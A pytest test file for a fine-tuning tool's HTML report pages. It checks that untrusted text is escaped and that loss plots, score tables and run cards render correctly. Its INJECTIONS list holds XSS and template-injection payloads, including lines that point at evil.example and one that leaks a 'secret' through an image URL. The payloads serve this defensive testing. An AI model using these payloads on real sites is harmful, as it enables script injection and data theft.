"""What the page shows: no text of data, names or models can act, nothing of it is lost, and plots stay in place."""

from __future__ import annotations

import json
import math
import re
import shutil
from collections import Counter
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from conftest import settings

from qlora_tune import page_parts as parts
from qlora_tune.check import check_files
from qlora_tune.comparison import Answered, Comparison
from qlora_tune.memory import MemoryEstimate
from qlora_tune.model import Device
from qlora_tune.plan import Plan
from qlora_tune.preview import RowView, Token
from qlora_tune.runs import Run, list_runs, new_run
from qlora_tune.shapes import Example

INJECTIONS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus='",
    "<svg/onload=alert(1)><circle r=9></svg>",
    "</pre></div></td></table></title></svg><iframe src=//evil.example></iframe>",
    "a\n\n<b onclick=alert(1)>\n\nb",
    "a\r\n\r\n</div>\r\n\r\n<style>* {display: none}</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;",
    "[click](javascript:alert(1)) ![x](https://evil.example/?q=secret)",
    "\n\n# heading\n\n* item\n\n```html\n<a href='javascript:alert(1)'>x</a>\n```",
    "{{7*7}} {{ config }} {{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}<u>{{ x }}</u>{% endfor %}{# c #}",
    "<!-- --><![CDATA[ <b> ]]> <?php ?> <!doctype html>",
    "<a href=javascript:alert(1)>x</a><form action=//evil.example><input name=q></form>",
    "$$\\href{javascript:alert(1)}{x}$$ `</code><b>` \u202e\x1b[2J\x00 \u2028<b>\u2028\x85<b>\x0b\x0c<b>",
]
HARMLESS = "harmless"


class Skeleton(HTMLParser):
    """The elements and attributes of a piece of HTML, and the text that a reader sees."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: Counter[str] = Counter()
        self.attributes: set[tuple[str, str]] = set()
        self.values: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attributes |= {(tag, name) for name, _ in attrs}
        self.values += [value or "" for _, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags["!comment"] += 1

    def handle_decl(self, decl: str) -> None:
        self.tags["!declaration"] += 1

    def unknown_decl(self, data: str) -> None:
        self.tags["!declaration"] += 1

    def handle_pi(self, data: str) -> None:
        self.tags["!instruction"] += 1


def row(text: str, folder: Path) -> str:
    messages: Any = ({"role": "user", "content": text}, {"role": "assistant", "content": text, "learn": False})
    messages[1]["tool_calls"] = [{"name": text, "arguments": {text: text}}]
    tokens = [Token(text, True, False), Token(text, False, True)]
    example = Example(messages, text, text)
    return parts.show_row(RowView(text, 1, {text: text}, text, [example], [tokens], [text]))


def unreadable_row(text: str, folder: Path) -> str:
    return parts.show_row(RowView("a", 1, text, problems=[text]))


def conversation(text: str, folder: Path) -> str:
    roles = ("system", "user", "assistant", "tool", text)
    return parts.show_conversation([{"role": role, "content": text} for role in roles], assistant=text)


def answered(text: str) -> Answered:
    return Answered(text, text, ({"role": "user", "content": text},), text, text, text + ".")


def write_run(text: str, folder: Path, number: int = 0) -> Run:
    """A run whose name, data and state say what somebody wants them to say."""
    run = new_run(settings(runs_dir=str(folder), data=["x.jsonl"], model_revision=f"{text}{number}"))
    name = re.sub(r"[/\x00]", "∕", text)[:80] + str(number)
    run.path.rename(folder / name)
    run = Run(folder / name)
    config = run.path / "config.toml"
    escaped = json.dumps(f"/data/{text}").replace("\x7f", "\\u007f")
    config.write_text(re.sub(r'data = \[\n.*?x\.jsonl",?\n\]', lambda _: f"data = [{escaped}]", config.read_text()))
    assert run.read_config().data == [f"/data/{text}"]
    state = {"status": text, "preset": text, "reason": text, "eval_loss": 1.0, "score_base": 0.1, "score_tuned": 0.5}
    run.update_state(pid=None, **state)
    for step in (1, 2):
        run.add_metrics({"step": step, "total_steps": 2, "loss": 1.0 / step, "memory_bytes": 1e9, "left_s": 1})
    return run


def card(text: str, folder: Path) -> str:
    plan = Plan(
        "command",
        config=settings(),
        device=Device("cpu", text, 1 << 30, "bfloat16"),
        preset=text,
        changes={text: text},
        facts=[(text, text)],
        memory=MemoryEstimate({text: 1 << 20}),
        problems=[text],
    )
    return parts.show_card(plan)


def check(text: str, folder: Path) -> str:
    file = folder / (re.sub(r"[/\x00]", "∕", text)[:40] + ".jsonl")
    good = {"instruction": text, "output": text, "task": text}
    rows = [good, good, {"instruction": text, "output": ""}, {text: text}, {"instruction": text, "output": [text]}]
    file.write_text("\n".join(map(json.dumps, rows)) + f"\n{{{text.splitlines()[0]}")
    return parts.show_check(check_files([str(file)]))


SHOWN: dict[str, Callable[[str, Path], str]] = {
    "row": row,
    "unreadable row": unreadable_row,
    "conversation": conversation,
    "runs": lambda text, folder: parts.show_runs([write_run(text, folder)]),
    "run": lambda text, folder: parts.show_run(write_run(text, folder)),
    "losses": lambda text, folder: parts.show_losses([write_run(text, folder), write_run(text, folder, 1)]),
    "differences": lambda text, folder: parts.show_differences([write_run(text, folder), write_run(text, folder, 1)]),
    "answers": lambda text, folder: parts.show_answers([answered(text)]),
    "scores": lambda text, folder: parts.show_scores({text: Comparison([answered(text)])}),
    "log": lambda text, folder: parts.show_log(text),
    "message": lambda text, folder: parts.show_message(" ".join(text.splitlines()), "bad"),
    "table": lambda text, folder: parts.show_table([text], [[text]], text),
    "sides": lambda text, folder: "".join(parts.show_sides([[{"role": "user", "content": text}], []], [text, text])),
    "card": card,
    "check": check,
}


@pytest.fixture(scope="module")
def harmless(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Skeleton]:
    """The elements that each part has of its own."""
    return {name: Skeleton(show(HARMLESS, tmp_path_factory.mktemp("h"))) for name, show in SHOWN.items()}


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize("name", SHOWN)
def test_no_text_becomes_an_element_or_an_attribute(
    name: str, text: str, tmp_path: Path, harmless: dict[str, Skeleton]
) -> None:
    html, own = SHOWN[name](text, tmp_path), harmless[name]
    found = Skeleton(html)
    assert found.attributes == own.attributes
    extra = found.tags - own.tags
    if name == "check":  # how many findings there are depends on the text, what they are made of doesn't
        assert set(extra) <= {"tr", "td", "code", "table", "details", "summary", "span", "b", "p", "rect", "title"}
    else:
        assert found.tags == own.tags


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize("name", SHOWN)
def test_no_line_break_is_left_that_would_end_the_block_in_markdown(name: str, text: str, tmp_path: Path) -> None:
    html = SHOWN[name](text, tmp_path)
    assert not re.search(r"[\n\r]", html)
    assert html.startswith('<div class="part')


def test_nothing_that_is_shown_loads_or_runs_anything(tmp_path: Path) -> None:
    for name, show in SHOWN.items():
        (tmp_path / name).mkdir()
        found = Skeleton(show(INJECTIONS[5], tmp_path / name))
        names = {attribute for _, attribute in found.attributes}
        assert not names & {"src", "href", "srcset", "action", "xlink:href", "formaction", "data", "poster"}, name
        assert not [attribute for attribute in names if attribute.startswith("on")], name
        assert not set(found.tags) & {"script", "iframe", "object", "embed", "link", "style", "form", "img"}, name


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize("name", ["conversation", "answers", "log", "table", "row"])
def test_a_reader_sees_the_text_as_it_is_with_its_line_breaks(name: str, text: str, tmp_path: Path) -> None:
    from qlora_tune.text_signs import printable

    expected = printable(text).replace("\x85", "�")
    assert expected in Skeleton(SHOWN[name](text, tmp_path)).text


def test_a_message_has_a_paragraph_a_line() -> None:
    assert parts.show_message("one\ntwo", "bad").count('<p class="bad" role="alert">') == 2


def test_control_characters_are_shown_as_pictures() -> None:
    text = Skeleton(parts.show_log("a\x1b[2Jb\x00c\u202ed\te")).text
    assert text == "a␛[2Jb␀c�d\te"


def test_control_characters_are_shown_as_pictures_in_a_report_too(tmp_path: Path) -> None:
    file = tmp_path / "d.jsonl"
    file.write_text(json.dumps({"instruction": "a", "output": "b", "task": "x\u202ey\x1b[2J"}))
    html = parts.show_check(check_files([str(file)]))
    assert not {"\u202e", "\x1b"} & set(html)


def test_learned_tokens_are_marked_and_counted() -> None:
    tokens = [Token("a", False, False), Token("b", True, False), Token("</s>", True, True)]
    html = parts.show_row(RowView("d.jsonl", 7, {}, "alpaca", [], [tokens]))
    assert "3 tokens, 2 learned" in html
    assert '<span class="">a</span><span class="l">b</span><span class="l c">&lt;/s&gt;</span>' in html
    assert "d.jsonl:7" in html


def test_an_answer_that_is_context_only_is_said_to_be_not_learned() -> None:
    turns: Any = [{"role": "assistant", "content": "a", "learn": False}, {"role": "assistant", "content": "b"}]
    assert Skeleton(parts.show_conversation(turns)).text.count("(not learned)") == 1


def points_of(html: str) -> list[tuple[float, float]]:
    found = re.findall(r'points="([^"]*)"', html)
    pairs = [pair.split(",") for line in found for pair in line.split()]
    return [(float(x), float(y)) for x, y in pairs]


def curve_run(folder: Path, entries: list[dict[str, Any]], name: str = "c") -> Run:
    run = new_run(settings(runs_dir=str(folder), run_name=name))
    for entry in entries:
        run.add_metrics(entry)
    return run


@pytest.mark.parametrize(
    "losses",
    [
        [3.0, 2.0, 1.5],
        [0.0, 0.0],
        [-1.0, -5.0, -2.0],
        [1e-9, 2e-9],
        [1e12, 3.0, -1e12],
        [2.5],
        [0.0],
        [7.0] * 30,
        [1.0000001, 1.0000002],
        [float(n % 17) for n in range(2000)],
    ],
    ids=lambda losses: f"{losses[:2]}x{len(losses)}",
)
def test_points_of_a_curve_lie_inside_the_plot(losses: list[float], tmp_path: Path) -> None:
    run = curve_run(tmp_path, [{"step": step, "loss": loss} for step, loss in enumerate(losses, 1)])
    html = parts.show_losses([run])
    points = points_of(html)
    assert len(points) == min(len(losses), parts.POINTS) or len(points) <= parts.POINTS + 1
    assert all(parts.LEFT <= x <= parts.WIDTH and 0 <= y <= parts.HEIGHT - parts.BOTTOM for x, y in points)
    labels = [float(y) for y in re.findall(r'<text x="[\d.]+" y="([\d.-]+)"', html)]
    assert all(0 <= y <= parts.HEIGHT for y in labels)
    assert 2 <= html.count('class="grid"') <= 9


def test_a_falling_loss_falls_in_the_plot_from_left_to_right(tmp_path: Path) -> None:
    points = points_of(parts.show_losses([curve_run(tmp_path, [{"step": n, "loss": 5 - n} for n in range(1, 5)])]))
    assert points == sorted(points)
    assert [y for _, y in points] == sorted(y for _, y in points)  # downwards: y grows


def test_values_that_are_no_numbers_leave_a_gap_and_no_trace(tmp_path: Path) -> None:
    values = [1.0, math.nan, math.inf, 2.0, -math.inf]
    html = parts.show_losses([curve_run(tmp_path, [{"step": n, "loss": v} for n, v in enumerate(values, 1)])])
    assert len(points_of(html)) == 2
    assert "nan" not in html.lower()
    assert not re.search(r"\binf\b", html)


def test_a_run_with_nothing_measured_has_no_plot(tmp_path: Path) -> None:
    assert parts.show_losses([curve_run(tmp_path, [{"step": 1, "loss": math.nan}])]) == ""
    assert parts.show_losses([]) == ""


def test_a_long_curve_is_thinned_and_keeps_its_last_point(tmp_path: Path) -> None:
    entries = [{"step": step, "loss": 1.0} for step in range(1, 1002)] + [{"step": 1001, "eval_loss": 2.0}]
    points = points_of(parts.show_losses([curve_run(tmp_path, entries)]))
    assert len(points) < parts.POINTS + 2
    assert max(x for x, _ in points[:-1]) == points[-1][0]


def test_curves_of_several_runs_bear_their_names_and_share_one_scale(tmp_path: Path) -> None:
    runs = [curve_run(tmp_path, [{"step": 1, "loss": v}, {"step": 2, "loss": v}], f"run{v}") for v in (1, 3)]
    html = parts.show_losses(runs)
    heights = [y for _, y in points_of(html)]
    assert heights[0] == heights[1] > heights[2] == heights[3]
    assert "run1: training" in html
    assert "run3: held-out" in html


def test_differences_name_only_the_settings_that_differ(tmp_path: Path) -> None:
    one, two = (
        new_run(settings(runs_dir=str(tmp_path), run_name=name, lora_r=rank, data=["d.jsonl"]))
        for name, rank in (("one", 8), ("two", 64))
    )
    html = parts.show_differences([one, two])
    cells = re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", html)
    assert cells == ["setting", "one", "two", "lora_r", "8", "64"]
    assert "same settings" in parts.show_differences([one, one])


def test_the_card_says_ready_only_without_problems() -> None:
    ready = parts.show_card(Plan("c", facts=[("steps", "9")]))
    assert "Ready" in ready
    assert "Not ready" not in ready
    blocked = parts.show_card(Plan("c", problems=["no such file"]))
    assert "Not ready" in blocked
    assert "no such file" in blocked
    assert 'role="alert"' in blocked


@pytest.mark.parametrize(("peak", "over"), [(1 << 29, False), (1 << 31, True)])
def test_the_memory_bar_shows_the_share_and_never_leaves_its_frame(peak: int, over: bool) -> None:
    device = Device("cpu", "CPU", 1 << 30, "bfloat16")
    html = parts.show_card(Plan("c", device=device, memory=MemoryEstimate({"all": peak})))
    width = float(re.findall(r"width: ([\d.]+)%", html)[0])
    assert width == (100 if over else 50)
    assert ("meter over" in html) is over


def test_scores_of_several_runs_are_shown_by_task_beside_the_base() -> None:
    first = [Answered("d:1", "t", (), "x", "no", "x"), Answered("d:2", "u", (), "x", "x", "x")]
    second = [Answered("d:1", "t", (), "x", "no", "no"), Answered("d:2", "u", (), "x", "x", "x")]
    html = parts.show_scores({"one": Comparison(first), "two": Comparison(second)})
    rows = [re.findall(r"<td>(.*?)</td>", row) for row in html.split("<tr>")]
    shown = [row for row in rows if row]
    assert shown[:3] == [
        ["t", "0.0 % of 1", "100.0 % of 1", "0.0 % of 1"],
        ["u", "100.0 % of 1", "100.0 % of 1", "100.0 % of 1"],
        ["all", "50.0 % of 2", "100.0 % of 2", "50.0 % of 2"],
    ]
    assert shown[3] == ["exact match", "50.0 %", "100.0 % · +50.0 (+0.0 to +100.0)", "50.0 % · +0.0 (all rows alike)"]
    assert "scored on different rows" not in html
    others = [Answered("d:3", "t", (), "x", "no", "x")]
    assert "scored on different rows" in parts.show_scores({"one": Comparison(first), "two": Comparison(others)})


def test_answers_say_which_are_exact() -> None:
    html = parts.show_answers([Answered("d:1", "t", (), "x", "no", "x"), Answered("d:2", "t", (), "x", "x", "no")])
    assert (html.count("✓ exact"), html.count("✗ differs")) == (1, 1)


@pytest.fixture
def ended(finished: Any, tmp_path: Path) -> Run:
    """A copy of the finished run, whose process has ended."""
    shutil.copytree(finished[0].path, tmp_path / "short")
    run = Run(tmp_path / "short")
    run.update_state(pid=None)
    return run


def test_a_finished_run_is_shown_with_its_figures_curves_and_state(ended: Run) -> None:
    run = ended
    html = parts.show_run(run)
    text = Skeleton(html).text
    assert f"{run.name}: finished" in text
    assert "24 of 24" in text
    assert html.count("<svg") == 2
    assert 'aria-valuenow="24"' in html
    assert "width: 100.0%" in html


def test_runs_are_listed_with_scores_and_an_empty_list_says_what_to_do(ended: Run) -> None:
    ended.update_state(score_base=0.1, score_tuned=0.75)
    cells = re.findall(r"<td>(.*?)</td>", parts.show_runs([ended]))
    assert cells[:4] == ["short", "finished", "builtin", "the built-in sample"]
    assert cells[5] == "10% → 75%"
    assert "No runs yet" in parts.show_runs([])


def test_a_damaged_run_does_not_hide_the_others(ended: Run) -> None:
    damaged = new_run(settings(runs_dir=str(ended.path.parent), run_name="damaged"))
    (damaged.path / "config.toml").write_text("lora_r = ")
    assert "short" in parts.show_runs(list_runs(ended.path.parent))
